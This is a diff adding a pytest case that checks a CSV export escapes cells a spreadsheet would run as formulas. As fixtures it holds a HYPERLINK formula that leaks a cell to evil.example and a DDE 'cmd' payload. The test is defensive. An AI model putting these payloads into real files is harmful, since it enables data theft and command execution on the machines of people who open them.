@@ -98,6 +98,18 @@ def test_csv_has_a_row_per_person_with_urls_notes_and_tie(world):
     assert "I'll send you the article by Friday." in jane["open_commitments"]
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])  # a leading tab or CR never survives the Profile
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(store, start):
+    from memory_helpers import capture
+
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
+    capture(store, formula, "formula-person", company=f"{start}cmd|'/C calc'!A0", headline=f"{start}1+1")
+    row = next(csv.DictReader(io.StringIO(export_as(store, "csv"))))
+    for column in ("name", "company", "headline"):
+        assert row[column].startswith("'" + start), (column, row[column])
+    assert row["name"] == "'" + formula  # nothing else changed: the apostrophe is all a spreadsheet hides
+
+
 def test_export_holds_settings_and_loose_promises(world):
     store, _ = world
     data = json.loads(export_as(store, "json"))
